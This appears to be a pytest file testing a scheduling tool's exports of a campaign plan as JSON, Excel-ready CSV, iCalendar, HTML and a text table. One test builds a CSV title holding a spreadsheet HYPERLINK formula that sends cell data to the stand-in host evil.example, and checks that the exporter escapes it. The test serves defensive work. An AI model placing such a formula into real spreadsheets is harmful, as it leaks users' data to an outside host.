from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import urllib.parse
from pathlib import Path

import pytest

from scheduler.inputs.campaign import Campaign
from scheduler.planning.planner import Plan
from scheduler.views import plan_export as export


def test_json_records(heihe: Campaign, heihe_plan: Plan) -> None:
    records = json.loads(export.to_json(heihe, heihe_plan))
    assert len(records) == len(heihe_plan.posts)
    for r in records:
        assert {"at", "channel", "item", "area", "title"} <= set(r)
        assert re.fullmatch(r"2016-09-\d\dT\d\d:\d\d:00\+08:00", r["at"])
    with_reminders = json.loads(export.to_json(heihe, heihe_plan, reminders=True))
    notify = [r for r in with_reminders if r["channel"] == "notify"]
    assert len(notify) == len(heihe_plan.reminders) and all(r["item"] is None for r in notify)
    assert [r["at"] for r in with_reminders] == sorted(r["at"] for r in with_reminders)


def test_csv_opens_in_excel_and_round_trips(heihe: Campaign, heihe_plan: Plan) -> None:
    text = export.to_csv(heihe, heihe_plan)
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == len(heihe_plan.posts)
    assert list(rows[0]) == ["发布编号", "时间", "渠道", "渠道名称", "内容编号", "领域", "领域名称", "主题", "标题", "安排原因"]
    assert rows[0]["标题"] == heihe_plan.posts[0].item.title
    assert {r["安排原因"] for r in rows} <= set(export.REASON_LABELS.values()) and "启动日" in {r["安排原因"] for r in rows}


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_shown_as_text(heihe: Campaign, heihe_plan: Plan, start: str) -> None:
    first = heihe_plan.posts[0]
    title = f'{start}HYPERLINK("http://evil.example/?"&A1,"点击")'
    hostile = dataclasses.replace(first, item=dataclasses.replace(first.item, title=title))
    text = export.to_csv(heihe, Plan((hostile, *heihe_plan.posts[1:]), ()))
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0]["标题"] == "'" + title
    assert rows[1]["标题"] == heihe_plan.posts[1].item.title  # ordinary titles untouched
    assert all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())


def test_ics_is_valid_icalendar(heihe: Campaign, heihe_plan: Plan) -> None:
    text = export.to_ics(heihe, heihe_plan)
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    lines = text.split("\r\n")[:-1]
    assert lines[0] == "BEGIN:VCALENDAR" and lines[-1] == "END:VCALENDAR"
    assert all(len(line.encode()) <= 75 for line in lines)
    unfolded = text.replace("\r\n ", "").split("\r\n")
    assert unfolded.count("BEGIN:VEVENT") == len(heihe_plan.posts) + len(heihe_plan.reminders)
    assert "TZID:Asia/Shanghai" in unfolded and "TZOFFSETTO:+0800" in unfolded
    uids = [line for line in unfolded if line.startswith("UID:")]
    assert len(uids) == len(set(uids))
    launch = next(p for p in heihe_plan.posts if p.channel == "wechat" and p.item.is_launch)
    assert f"UID:{launch.id}@qm" in unfolded
    assert "DTSTART;TZID=Asia/Shanghai:20160908T200000" in unfolded
    assert any(line.startswith("SUMMARY:[微信公众号] ") for line in unfolded)


def test_html_month_grid(heihe: Campaign, heihe_plan: Plan) -> None:
    html = export.to_html(heihe, heihe_plan)
    assert html.count("<table>") == 2  # September and October (the summary-due reminder)
    assert html.count('class="post ') == len(heihe_plan.posts) + len(heihe_plan.reminders)
    assert "启动日" in html and "http" not in html.split("</head>")[0]  # nothing fetched from the network
    assert_local_chinese_font(html)


def assert_local_chinese_font(html: str) -> None:
    """Pages fall back to qm's own Chinese font, by a local file URL, where the machine has none."""
    match = re.search(r'@font-face\{font-family:"qm-cjk";src:url\("(file://[^"]+)"\)\}', html)
    assert match, "no local font fallback"
    assert Path(urllib.parse.unquote(urllib.parse.urlparse(match.group(1)).path)).is_file()
    assert '"Microsoft YaHei","qm-cjk",sans-serif' in html  # system fonts first, the fallback last


def test_table_lists_everything(heihe: Campaign, heihe_plan: Plan) -> None:
    text = export.to_table(heihe, heihe_plan)
    assert text.splitlines()[0].split() == ["时间", "渠道", "发布编号", "领域", "内容编号", "标题"]
    assert all(p.id in text for p in heihe_plan.posts)  # the ids `qm approve` takes
    assert f"共 {len(heihe_plan.posts)} 条内容" in text


def test_a_reminder_in_the_table_is_named_in_chinese_where_a_post_names_its_item(heihe: Campaign, heihe_plan: Plan) -> None:
    rows = [line for line in export.to_table(heihe, heihe_plan).splitlines() if "-notify-" in line]
    assert rows and all(line.split()[5] in ("启动活动提醒", "方案上报提醒", "总结上报提醒") for line in rows), rows
    assert not any("_due" in line.split()[5] for line in rows)
